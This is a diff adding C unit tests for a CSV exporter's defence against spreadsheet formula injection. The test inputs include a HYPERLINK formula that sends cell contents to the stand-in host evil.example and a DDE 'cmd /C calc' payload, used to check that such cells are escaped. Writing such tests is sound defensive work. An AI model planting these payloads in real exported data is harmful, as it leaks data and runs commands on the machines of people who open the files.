@@ -4,6 +4,7 @@
 #include <stdlib.h>
 #include <string.h>
 
+#include "export/csv.h"
 #include "export/export.h"
 #include "model/fin_metrics.h"
 #include "check_main.h"
@@ -154,6 +155,68 @@ START_TEST(csv_rows)
 }
 END_TEST
 
+/* Asserts that csv_text writes s as want. */
+static void
+field_is(const char *s, const char *want)
+{
+	buf b;
+	buf_init(&b);
+	csv_text(&b, s, strlen(s));
+	ck_assert_str_eq(buf_str(&b), want);
+	buf_free(&b);
+}
+
+START_TEST(csv_guard)
+{
+	/* OWASP's starts: an apostrophe in front, the cell quoted */
+	field_is("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+	    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
+	field_is("+1", "\"'+1\"");
+	field_is("-2+3", "\"'-2+3\"");
+	field_is("@SUM(A1)", "\"'@SUM(A1)\"");
+	field_is("\tx", "\"'\tx\"");
+	field_is("\rx", "\"'\rx\"");
+	/* a leading apostrophe gets one more: one always comes off */
+	field_is("'x", "\"''x\"");
+	/* elsewhere in the cell these are harmless */
+	field_is("a=b+c-d@e", "a=b+c-d@e");
+	field_is("a,b", "\"a,b\"");
+	field_is("", "");
+	ck_assert_int_eq(csv_guarded("=", 1), 1);
+	ck_assert_int_eq(csv_guarded("=", 0), 0);
+	ck_assert_int_eq(csv_guarded("x=", 2), 0);
+	/* numbers are numbers: a negative one stays as it is */
+	buf b;
+	buf_init(&b);
+	csv_num(&b, -2.5);
+	ck_assert_str_eq(buf_str(&b), "-2.5");
+	buf_free(&b);
+}
+END_TEST
+
+START_TEST(csv_hostile_metrics)
+{
+	metrics *m = metrics_new();
+	buf b;
+	/* metric names and scenario names are the metrics.csv cells that are text */
+	metrics_add(m, "=cmd|' /C calc'!A0", UNIT_NUMBER, -4, NULL, NULL);
+	metrics_add(m, "fact.x@-evil", UNIT_NUMBER, 1, NULL, NULL);
+	metrics_add(m, "@x@+y", UNIT_NUMBER, 2, NULL, NULL);
+	buf_init(&b);
+	export_csv(m, NULL, &b);
+	const char *c = buf_str(&b);
+	has(c, "\n\"'=cmd|' /C calc'!A0\",,,-4,number\n");
+	has(c, "\nfact.x,\"'-evil\",,1,number\n");
+	has(c, "\n\"'@x\",\"'+y\",,2,number\n");
+	buf_reset(&b);
+	export_csv(m, "-evil", &b);
+	ck_assert_str_eq(buf_str(&b), "metric,scenario,year,value,unit\n"
+	    "fact.x,\"'-evil\",,1,number\n");
+	buf_free(&b);
+	metrics_free(m);
+}
+END_TEST
+
 static Suite *
 export_suite(void)
 {
@@ -163,6 +226,8 @@ export_suite(void)
 	tcase_add_test(tc, json_tiny);
 	tcase_add_test(tc, json_empty);
 	tcase_add_test(tc, csv_rows);
+	tcase_add_test(tc, csv_guard);
+	tcase_add_test(tc, csv_hostile_metrics);
 	suite_add_tcase(s, tc);
 	return s;
 }
